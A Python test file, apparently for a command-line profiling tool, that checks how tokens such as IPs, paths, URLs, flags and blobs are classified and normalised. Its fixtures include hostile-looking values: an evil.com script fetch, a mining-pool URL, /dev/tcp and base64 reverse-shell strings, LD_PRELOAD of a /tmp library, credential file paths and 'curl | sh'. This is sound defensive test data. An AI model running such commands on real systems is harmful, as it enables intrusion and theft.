# SPDX-License-Identifier: Apache-2.0
"""The table of token types, with examples."""

import pytest

from habitus_profiler.shell import split
from habitus_profiler.slots import Slot
from habitus_profiler.tokens import typed
from habitus_profiler.volatile import softened

TABLE = [
    # token, kind, normal text, slots
    ("", "empty", "''", []),
    ("42", "number", "<number>", []),
    ("-1", "number", "<number>", []),
    ("3.14", "number", "<number>", []),
    ("50%", "number", "<number>", []),
    ("0xdeadbeef", "hex", "<hex>", []),
    ("7f3a9c12", "hex", "<hex>", []),
    ("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "hex", "<hex>", []),
    ("123e4567-e89b-12d3-a456-426614174000", "uuid", "<uuid>", []),
    ("2026-11-24T15:02:11Z", "timestamp", "<timestamp>", []),
    ("2026-11-24T15:02:11.123+01:00", "timestamp", "<timestamp>", []),
    ("20261124T1502", "timestamp", "<timestamp>", []),
    ("20261124150233", "timestamp", "<timestamp>", []),
    ("1764000000", "timestamp", "<timestamp>", []),
    ("1764000000123", "timestamp", "<timestamp>", []),
    ("@1764000000", "timestamp", "<timestamp>", []),
    ("15:02:11", "timestamp", "<timestamp>", []),
    ("2026-11-24", "date", "<date>", []),
    ("20261124", "date", "<date>", []),
    ("10MB", "size", "<size>", []),
    ("512m", "size", "<size>", []),
    ("1.5GiB", "size", "<size>", []),
    ("5s", "duration", "<duration>", []),
    ("100ms", "duration", "<duration>", []),
    ("1h30min", "duration", "<duration>", []),
    ("1.2.3", "version", "<version>", []),
    ("v2", "version", "<version>", []),
    ("10.0.0.9", "ip", "<10.0.0.0/24>", [("remote", "10.0.0.0/24")]),
    ("10.0.0.9:5432", "ip", "<10.0.0.0/24>:5432", [("remote", "10.0.0.0/24")]),
    ("203.0.113.9", "ip", "<203.0.113.9>", [("remote", "203.0.113.9")]),
    ("169.254.169.254", "ip", "<169.254.169.254>", [("remote", "169.254.169.254")]),
    ("127.0.0.1:43211", "ip", "<loopback>:<port>", [("remote", "loopback")]),
    ("::1", "ip", "<loopback>", [("remote", "loopback")]),
    ("[2001:db8::1]:443", "ip", "<2001:db8::1>:443", [("remote", "2001:db8::1")]),
    ("10.1.2.0/24", "ip", "<10.1.2.0/24>", [("remote", "10.1.2.0/24")]),
    ("db.shop.svc", "host", "db.shop.svc", [("remote", "db.shop.svc")]),
    ("db.shop.svc:5432", "host", "db.shop.svc:5432", [("remote", "db.shop.svc")]),
    ("redis:6379", "host", "redis:6379", [("remote", "redis")]),
    ("localhost", "host", "loopback", [("remote", "loopback")]),
    ("git@github.com:shop/web.git", "host", "git@github.com:shop/web.git", [("remote", "github.com")]),
    ("ops@example.com", "email", "ops@example.com", [("remote", "example.com")]),
    (
        "http://evil.com:8080/x.sh?id=12",
        "url",
        "http://evil.com:8080/x.sh?id=<number>",
        [("scheme", "http"), ("remote", "evil.com"), ("fetch", "sh")],
    ),
    (
        "https://user:secret@a.example/v1",
        "url",
        "https://<credentials>@a.example/v1",
        [("scheme", "https"), ("remote", "a.example")],
    ),
    (
        "stratum+tcp://pool.minexmr.com:4444",
        "url",
        "stratum+tcp://pool.minexmr.com:4444",
        [("scheme", "stratum+tcp"), ("remote", "pool.minexmr.com")],
    ),
    (
        "jdbc:postgresql://db.shop.svc:5432/shop",
        "url",
        "jdbc:postgresql://db.shop.svc:5432/shop",
        [("remote", "db.shop.svc")],
    ),
    (
        "jdbc:postgresql://db.shop.example:5432/shop",
        "url",
        "jdbc:postgresql://db.shop.example:5432/shop",
        [("scheme", "postgresql"), ("remote", "db.shop.example")],
    ),
    ("file:///tmp/x.so", "url", "file:///tmp/x.so", [("scheme", "file"), ("path", "/tmp/*.so")]),
    ("/tmp/x", "path", "/tmp/x", [("path", "/tmp")]),
    ("/tmp/x.sh", "path", "/tmp/x.sh", [("path", "/tmp/*.sh")]),
    ("/tmp/.x/run", "path", "/tmp/.x/run", [("path", "/tmp/.*")]),
    ("/dev/shm/a", "path", "/dev/shm/a", [("path", "/dev/shm")]),
    ("/var/tmp/a", "path", "/var/tmp/a", [("path", "/var/tmp")]),
    ("/etc/shadow", "path", "/etc/shadow", [("path", "/etc/shadow")]),
    ("/proc/4711/environ", "path", "/proc/<number>/environ", [("path", "/proc/<number>/environ")]),
    ("/proc/1/environ", "path", "/proc/1/environ", [("path", "/proc/1/environ")]),
    ("/root/.ssh/id_rsa", "path", "/root/.ssh/id_rsa", [("path", "/root/.ssh/id_rsa")]),
    ("/home/ann/a.txt", "path", "/home/ann/<file>.txt", [("path", "/home")]),
    ("/usr/bin/java", "path", "/usr/bin/java", [("path", "/usr/bin/java")]),
    ("/usr/lib/x.so", "path", "/usr/lib/x.so", [("path", "/usr/lib/x.so")]),
    ("/var/run/docker.sock", "path", "/var/run/docker.sock", [("path", "/var/run/docker.sock")]),
    ("/app/lib/a-1.2.3.jar", "path", "/app/lib/a-<version>.jar", [("path", "/app/lib/*.jar")]),
    ("/data/in/2026-11-24.csv", "path", "/data/in/<file>.csv", [("path", "/data")]),
    ("/dev/null", "path", "/dev/null", []),
    ("/tmp/../etc/passwd", "path", "/etc/passwd", [("path", "/etc/passwd")]),
    ("../../etc/passwd", "path", "../../etc/passwd", [("path", "../etc/passwd")]),
    (
        "/dev/tcp/203.0.113.9/4444",
        "path",
        "/dev/tcp/203.0.113.9/<number>",
        [("scheme", "/dev/tcp"), ("remote", "203.0.113.9")],
    ),
    ("@/etc/passwd", "path", "@/etc/passwd", [("path", "/etc/passwd")]),
    ("evil.example/x.sh", "url", "evil.example/x.sh", [("remote", "evil.example"), ("fetch", "sh")]),
    ("./java", "path", "./java", [("path", "./")]),
    ("~/.ssh/id_rsa", "path", "~/.ssh/id_rsa", [("path", "~/.*")]),
    ("server.js", "path", "server.js", [("path", "*.js")]),
    ("-c", "flag", "-c", [("flag", "-c")]),
    ("--port=8080", "flag", "--port=<number>", [("tuned", "--port")]),
    ("-Xmx512m", "flag", "-Xmx<size>", [("tuned", "-Xmx")]),
    ("--require=/tmp/x.js", "flag", "--require=/tmp/x.js", [("flag", "--require"), ("path", "/tmp/*.js")]),
    (
        "-javaagent:/tmp/a.jar",
        "flag",
        "-javaagent:/tmp/a.jar",
        [("flag", "-javaagent:"), ("path", "/tmp/*.jar")],
    ),
    (
        "LD_PRELOAD=/tmp/x.so",
        "assignment",
        "LD_PRELOAD=/tmp/x.so",
        [("variable", "LD_PRELOAD"), ("path", "/tmp/*.so")],
    ),
    ("PORT=8080", "assignment", "PORT=<number>", [("tuned", "PORT=")]),
    ("if=/dev/sda", "assignment", "if=/dev/sda", [("tuned", "if="), ("path", "/dev/sda")]),
    (
        "PYTHONPATH=/data/x",
        "assignment",
        "PYTHONPATH=/data/x",
        [("variable", "PYTHONPATH"), ("path", "/data")],
    ),
    ("NODE_PATH=/data/x", "assignment", "NODE_PATH=/data/x", [("variable", "NODE_PATH"), ("path", "/data")]),
    ("LOG_DIR=/data/x", "assignment", "LOG_DIR=/data/x", [("tuned", "LOG_DIR="), ("path", "/data")]),
    ("YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0", "blob", "<base64>", [("blob", "base64")]),
    ("\\x90\\x90\\x90\\x90\\xcc", "blob", "<hex-blob>", [("blob", "hex")]),
    ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "blob", "<jwt>", [("blob", "jwt")]),
    ("u+s", "mode", "u+s", [("mode", "setid")]),
    ("10.0.0.1,redis:79", "list", "<10.0.0.0/24>,redis:79", [("remote", "10.0.0.0/24"), ("remote", "redis")]),
    ("remote:203.0.113.9", "host", "remote:<203.0.113.9>", [("remote", "203.0.113.9")]),
    (
        "sftp:ops@203.0.113.9:/shop",
        "host",
        "sftp:ops@203.0.113.9:/shop",
        [("remote", "203.0.113.9"), ("path", "/shop")],
    ),
    ("tcp:evil.example", "host", "tcp:evil.example", [("remote", "evil.example")]),
    (
        "--web.telemetry-path=/stats",
        "flag",
        "--web.telemetry-path=/stats",
        [("tuned", "--web.telemetry-path")],
    ),
    (
        "--web.config-path=/etc/x",
        "flag",
        "--web.config-path=/etc/x",
        [("flag", "--web.config-path"), ("path", "/etc/x")],
    ),
    ("/srv/shop/public/a.tar", "path", "/srv/shop/public/<file>.tar", [("path", "/srv/shop/public")]),
    ("com.example.Main", "text", "com.example.Main", []),
    ("origin", "text", "origin", []),
    ("feature/login", "path", "feature/login", []),
]  # fmt: skip


@pytest.mark.parametrize(("token", "kind", "text", "slots"), TABLE, ids=[row[0] or "empty" for row in TABLE])
def test_a_token_has_one_type_one_normal_text_and_its_slots(token, kind, text, slots):
    """Each row of the table holds."""
    assert typed(token) == (kind, text, tuple(Slot(*slot) for slot in slots))


@pytest.mark.parametrize(
    ("text", "normal"),
    [
        ("backup-20261124T1502.tar.gz", "backup-<timestamp>.tar.gz"),
        ("req-7f3a9c12", "req-<hex>"),
        ("log.2026-11-24", "log.<date>"),
        ("web-7d4b9c6f5-x2k9p", "web-<hex>-<id>"),
        ("tmp.Ab3dE5gH", "tmp.<id>"),
        ("web-fwzfjpzbd-4lc7r", "web-<hex>-<id>"),
        ("web-9b6pmclfk-bfhq9", "web-<hex>-<id>"),
        ("job12345", "job<number>"),
        ("worker-3", "worker-<number>"),
        ("utf8", "utf8"),
        ("sha256", "sha256"),
        ("origin", "origin"),
    ],
)
def test_volatile_parts_inside_a_token_are_replaced_and_the_rest_stays(text, normal):
    """Only what changes from run to run goes."""
    assert softened(text) == normal


@pytest.mark.parametrize(
    ("text", "pieces"),
    [
        ("curl http://x | sh", ["curl", "http://x", ("|",), "sh"]),
        ("a && b || c; d", ["a", ("&&",), "b", ("||",), "c", (";",), "d"]),
        ('echo "a $(id) b" # end', ["echo", "a ", ("$(",), "id", (")",), " b"]),
        ("ls > /tmp/x 2>&1", ["ls", (">",), "/tmp/x", (">&",), "1"]),
        ("echo `id`", ["echo", ("`",), "id", ("`",)]),
        ("echo 'a | b'", ["echo", "a | b"]),
        ("a\nb", ["a", (";",), "b"]),
        ("a\\ b c", ["a b", "c"]),
        ("echo 'open", ["echo", "open"]),
        ("x=$((1+2))", ["x=$((1+2))"]),
        ("x=$(($(id)+2))", ["x=", ("$(",), ("(",), ("$(",), "id", (")",), "+2", (")",), (")",)]),
    ],
)  # fmt: skip
def test_shell_text_is_split_into_words_and_operators(text, pieces):
    """Quotes keep words together; operators stand alone; nothing raises."""
    assert [(piece.text,) if piece.operator else piece.text for piece in split(text)] == pieces
